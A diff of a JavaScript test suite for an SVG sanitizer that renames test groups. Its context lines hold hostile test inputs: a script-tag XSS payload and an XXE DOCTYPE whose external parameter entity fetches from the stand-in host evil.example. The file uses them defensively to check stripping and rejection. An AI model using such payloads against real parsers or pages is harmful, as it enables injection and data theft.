@@ -20,7 +20,7 @@ test('cleaning is idempotent', () => {
   expect(cleanDrawing(once).text).toBe(once)
 })
 
-describe('removed are', () => {
+describe('removes', () => {
   test.each([
     ['script', '<script>alert(1)</script>', /script|alert/],
     [
@@ -94,7 +94,7 @@ describe('removed are', () => {
   })
 })
 
-describe('rejected are', () => {
+describe('rejects', () => {
   test.each([
     ['a parameter entity', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a">%a;]>${svg('')}`],
     ['a declaration in an included section', `<!DOCTYPE svg [<![INCLUDE[<!ENTITY a "b">]]>]>${svg('')}`],
@@ -124,7 +124,7 @@ describe('rejected are', () => {
   })
 })
 
-describe('a drawing as programs write it loses only its document type', () => {
+describe('a drawing of a common program loses only its document type', () => {
   const w3 = '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
   test.each([
     ['matplotlib', `<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC ${w3}>\n`],
